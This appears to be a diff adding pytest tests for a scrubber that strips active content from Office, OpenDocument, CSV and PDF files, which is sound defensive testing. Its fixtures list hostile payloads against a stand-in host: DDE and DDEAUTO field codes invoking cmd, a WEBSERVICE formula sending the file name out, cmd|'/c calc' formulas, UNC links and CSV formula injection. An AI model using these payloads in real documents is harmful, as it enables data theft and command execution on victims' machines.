@@ -3,16 +3,24 @@
 from __future__ import annotations
 
 import io
+import re
 import sys
+from xml.sax.saxutils import escape, quoteattr
 
 import pytest
+from pypdf import PdfWriter
+from pypdf.generic import RectangleObject
 
+import evidence_office as office
+from evidence_samples import MEDIA_TYPES
 from openbadge_issuer.adapters.scrubbers import SCRUBBERS
 from openbadge_issuer.assessment.blinding.values import Scrubbed
 from openbadge_issuer.assessment.media_types import sniff
 from openbadge_issuer.errors import InputError
 
 SVG = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
+
+DOCUMENT = f"{office.OFFICE}.wordprocessingml.document.main+xml"
 
 
 def scrubbed(media_type: str, content: str) -> tuple[Scrubbed, str]:
@@ -242,3 +250,234 @@ def test_links_to_the_web_stay(link: str) -> None:
     said, copy = scrubbed("text/html", f'<a href=" {link}">x</a>')
     assert f'href="{link}"' in copy
     assert any(link == one.text for one in said.passages)
+
+
+# documents
+
+FIELDS = [
+    r'INCLUDEPICTURE "https://evil.example/who.png" \d',
+    'INCLUDETEXT "https://evil.example/who"',
+    r'LINK Excel.Sheet.12 "\\\\evil.example\\share\\a.xlsx"',
+    r'DDE c:\\windows\\cmd "evil.example"',
+    r'DDEAUTO c:\\windows\\cmd "evil.example"',
+    'HYPERLINK "file://evil.example/share"',
+    'QUOTE 104 { INCLUDETEXT "https://evil.example" }',
+]
+
+
+def document(inside: str, **parts: str) -> bytes:
+    made = office.Package()
+    made.link("/", "officeDocument", "word/document.xml")
+    made.add("word/document.xml", office.root("w:document", f"<w:body>{inside}</w:body>"), DOCUMENT)
+    for name, body in parts.items():
+        made.add(
+            f"word/{name}.xml", body, f"{DOCUMENT[:-9]}{name}+xml", source="word/document.xml", kind=name
+        )
+    return made.to_bytes()
+
+
+def copied(form: str, content: bytes) -> tuple[Scrubbed, dict[str, str]]:
+    target = io.BytesIO()
+    said = SCRUBBERS[MEDIA_TYPES[form]](io.BytesIO(content), target)
+    return said, {name: body.decode() for name, body in office.unzipped(target.getvalue()).items()}
+
+
+@pytest.mark.parametrize("field", FIELDS)
+@pytest.mark.parametrize("way", ["simple", "whole", "split"])
+def test_field_codes_go_and_their_results_stay(field: str, way: str) -> None:
+    code = escape(field)
+    run = "<w:r><w:fldChar w:fldCharType='{}'/></w:r>"
+    codes = "".join(f"<w:r><w:instrText>{escape(one)}</w:instrText></w:r>" for one in field)
+    parted = codes if way == "split" else f"<w:r><w:instrText>{code}</w:instrText></w:r>"
+    result = "<w:r><w:t>Twelve learners</w:t></w:r>"
+    inside = f"{run.format('begin')}{parted}{run.format('separate')}{result}{run.format('end')}"
+    if way == "simple":
+        inside = f"<w:fldSimple w:instr={quoteattr(field)}>{result}</w:fldSimple>"
+    said, copy = copied("docx", document(f"<w:p>{inside}</w:p>"))
+    body = copy["word/document.xml"]
+    assert "Twelve learners" in body
+    assert "fld" not in body
+    assert "instr" not in body
+    assert not any("evil" in one for one in copy.values())
+    assert any(one.what == "field code" for one in said.removed)
+
+
+LINKS = [
+    "file://evil.example/share",
+    r"\\evil.example\share",
+    "file:///c:/evil.example",
+    "ms-excel:ofe|u|evil.example",
+]
+
+
+@pytest.mark.parametrize("target", LINKS)
+def test_links_of_documents_to_files_go(target: str) -> None:
+    made = office.Package()
+    main = "word/document.xml"
+    made.link("/", "officeDocument", main)
+    key = made.link(main, "hyperlink", target, external=True)
+    inside = f'<w:p><w:hyperlink r:id="{key}"><w:r><w:t>Twelve learners</w:t></w:r></w:hyperlink></w:p>'
+    made.add(main, office.root("w:document", f"<w:body>{inside}</w:body>"), DOCUMENT)
+    said, copy = copied("docx", made.to_bytes())
+    assert "Twelve learners" in copy[main]
+    assert not any("evil" in one for one in copy.values())
+    assert any("outside" in one.what for one in said.removed)
+
+
+@pytest.mark.parametrize("attribute", ['src="https://evil.example/a"', 'o:href="https://evil.example/a"'])
+def test_pictures_of_old_drawings_load_nothing(attribute: str) -> None:
+    spaces = 'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"'
+    inside = f"<w:p><w:r><w:pict><v:shape {spaces}><v:imagedata {attribute}/></v:shape></w:pict></w:r></w:p>"
+    said, copy = copied("docx", document(inside))
+    assert "evil" not in copy["word/document.xml"]
+    assert said.removed
+
+
+FORMULAS = [
+    '_xlfn.WEBSERVICE("https://evil.example/who?"&CELL("filename"))',
+    '_xlfn.IMAGE("https://evil.example/i.png")',
+    'IMPORTXML("https://evil.example/x","//a")',
+    'IMPORTDATA("https://evil.example")',
+    'IMPORTRANGE("evil.example","A1")',
+    'HYPERLINK("file://evil.example/share","x")',
+    r'HYPERLINK("\\evil.example\share")',
+    'HYPERLINK("fi"&"le://evil.example")',
+    "cmd|'/c calc evil.example'!A0",
+    "'https://evil.example/[Book.xlsx]S'!A1",
+    r"'\\evil.example\[Book.xlsx]S'!A1",
+    "[1]evil.example!A1",
+    "'evil.example.xlsx'!Name",
+    'RTD("evil.example",,"x")',
+    '\'a"b\'!A1&WEBSERVICE("evil.example")',
+    'SUM(1)+WEBSERVICE ("evil.example")',
+    "SOMETHING.NEW(evil.example)",
+]
+
+
+def workbook(formula: str, more: str = "") -> bytes:
+    made, main, kind = office.Package(), "xl/workbook.xml", f"{office.OFFICE}.spreadsheetml"
+    made.link("/", "officeDocument", main)
+    cells = f'<x:c r="A1" t="str">{formula}<x:v>Twelve learners</x:v></x:c>'
+    sheet = office.root("x:worksheet", f'<x:sheetData><x:row r="1">{cells}</x:row></x:sheetData>{more}')
+    key = made.add("xl/worksheets/sheet1.xml", sheet, f"{kind}.worksheet+xml", source=main, kind="worksheet")
+    name = f'<x:definedNames><x:definedName name="n">{re.sub("<[^>]*>", "", formula)}</x:definedName></x:definedNames>'
+    sheets = f'<x:sheets><x:sheet name="Plan" sheetId="1" r:id="{key}"/></x:sheets>{name}'
+    made.add(main, office.root("x:workbook", sheets), f"{kind}.sheet.main+xml")
+    return made.to_bytes()
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_formulas_that_ask_somebody_leave_their_values(formula: str) -> None:
+    code = escape(formula)
+    rule = f"<x:cfRule><x:formula>{code}</x:formula></x:cfRule>"
+    rule = f'<x:conditionalFormatting sqref="A1">{rule}</x:conditionalFormatting>'
+    said, copy = copied("xlsx", workbook(f'<x:f t="shared" si="0" ref="A1">{code}</x:f>', rule))
+    sheet = copy["xl/worksheets/sheet1.xml"]
+    assert "<x:v>Twelve learners</x:v>" in sheet
+    assert "x:f " not in sheet
+    assert "<x:formula>0</x:formula>" in sheet
+    assert "definedName " not in copy["xl/workbook.xml"]
+    assert not any("evil" in one for one in copy.values())
+    assert any("formula" in one.what for one in said.removed)
+
+
+@pytest.mark.parametrize(
+    "formula", ["SUM(A1:B2)*2", "IF(Plan!A1>3,&quot;yes (really)&quot;,&quot;no&quot;)", "Table1[Level]"]
+)
+def test_formulas_that_only_compute_stay(formula: str) -> None:
+    _, copy = copied("xlsx", workbook(f"<x:f>{formula}</x:f>"))
+    assert (
+        f"<x:f>{formula.replace('&quot;', chr(34)).replace('>', '&gt;')}</x:f>"
+        in copy["xl/worksheets/sheet1.xml"]
+    )
+    assert "definedName " in copy["xl/workbook.xml"]
+
+
+def test_an_element_in_a_formula_hides_nothing() -> None:
+    _, copy = copied("xlsx", workbook("<x:f>1+<x:b/>WEBSERVICE(&quot;evil&quot;)</x:f>"))
+    assert not any("evil" in one or "<x:f" in one for one in copy.values())
+
+
+TABLE = [
+    ("=1+1", "'=1+1"),
+    ("a,=WEBSERVICE(1)", "a,'=WEBSERVICE(1)"),
+    ('a;"=cmd|x"', 'a;"\'=cmd|x"'),
+    ("a\t@SUM(1)", "a\t'@SUM(1)"),
+    ("a,+1+1", "a,'+1+1"),
+    ("a,-1+cmd|x", "a,'-1+cmd|x"),
+    ("a\r=1", "a\r'=1"),
+    ("a, =1", "a, '=1"),
+    ("a,\t=1", "a,\t'=1"),
+    ("a,\uff1d1", "a,'\uff1d1"),
+    ("sep=x\n1x=2", "1x=2"),
+    ("sep=x\r\nsep=y\r\n1x=2", "1x=2"),
+]
+
+
+@pytest.mark.parametrize(("before", "after"), TABLE)
+def test_cells_that_are_formulas_become_texts(before: str, after: str) -> None:
+    said, copy = scrubbed("text/csv", before)
+    assert copy == after
+    assert said.removed
+
+
+@pytest.mark.parametrize("row", ["a,-1", "a;-1,5;b", '"-12.5%","b"', "-1", "a,-1.5e-3\nb", "a=b,c-d,e@f"])
+def test_plain_cells_stay(row: str) -> None:
+    said, copy = scrubbed("text/csv", row)
+    assert copy == row
+    assert said.removed == ()
+
+
+def test_a_table_of_blanks_takes_no_square() -> None:
+    for piece in (" ", '"', ", ", "-1", ",-1", "\n ", "sep=\n"):
+        scrubbed("text/csv", piece * (1_000_000 // len(piece)) + "x")
+
+
+ELEMENTS = [
+    '<text:section text:name="a"><text:section-source xlink:href="https://evil.example/a"/></text:section>',
+    '<text:p><draw:frame><draw:floating-frame xlink:href="https://evil.example/a"/></draw:frame></text:p>',
+    '<text:p><draw:frame><draw:image xlink:href="https://evil.example/a"/></draw:frame></text:p>',
+    '<form:form xlink:href="https://evil.example/a"/>',
+    '<form:button form:button-type="url" xlink:href="https://evil.example/a"/>',
+    '<form:image form:image-data="https://evil.example/a"/>',
+    '<text:dde-connection-decls><text:dde-connection-decl office:dde-topic="evil.example"/></text:dde-connection-decls>',
+    '<text:p><text:a xlink:href="file://evil.example/a">here</text:a></text:p>',
+    '<text:p><text:bookmark xlink:href="https://evil.example/a"/></text:p>',
+    '<table:table><table:table-source xlink:href="https://evil.example/a"/></table:table>',
+    '<table:dde-links><table:dde-link><office:dde-source office:dde-item="evil"/></table:dde-link></table:dde-links>',
+    '<table:table-cell table:formula="of:=WEBSERVICE(&quot;https://evil.example&quot;)"/>',
+    '<table:table-cell table:formula="of:=DDE(&quot;soffice&quot;;&quot;evil.example&quot;;&quot;a&quot;)"/>',
+    '<table:table-cell table:formula="of:=[&apos;file://evil.example/a.ods&apos;#$A.B1]"/>',
+    '<table:table-cell table:formula="msoxl:=cmd|&apos;/c evil.example&apos;!A0"/>',
+    '<table:named-expression table:expression="of:=WEBSERVICE(&quot;evil.example&quot;)"/>',
+]
+
+
+@pytest.mark.parametrize("element", ELEMENTS)
+def test_nothing_of_an_open_document_loads(element: str) -> None:
+    parts = office.unzipped(office.odf("odt", "body", "Plan"))
+    root, end = b"<office:document-content", b"</office:text>"
+    spaces = 'xmlns:form="urn:oasis:names:tc:opendocument:xmlns:form:1.0" '
+    spaces += 'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0"'
+    wrapped = (
+        f"<text:section {'' if b'xmlns:form' in parts['content.xml'] else spaces}>{element}</text:section>"
+    )
+    parts["content.xml"] = parts["content.xml"].replace(end, wrapped.encode() + end)
+    assert root in parts["content.xml"]
+    said, copy = copied("odt", office.zipped(parts))
+    assert "Twelve learners" in copy["content.xml"]
+    assert not any("evil" in one for one in copy.values())
+    assert any("outside" in one.what for one in said.removed)
+
+
+@pytest.mark.parametrize("target", [*LINKS, "https://people.example/plan"])
+def test_links_of_a_pdf_to_files_go(target: str) -> None:
+    writer = PdfWriter()
+    writer.add_blank_page(200, 200)
+    writer.add_uri(0, target, RectangleObject((0, 0, 9, 9)))
+    before, after = io.BytesIO(), io.BytesIO()
+    writer.write(before)
+    said = SCRUBBERS["application/pdf"](before, after)
+    told = [one.text for one in said.passages if one.place == "page 1, link"]
+    assert told == ([target] if target.startswith("https:") else [])
+    assert b"evil" not in after.getvalue()
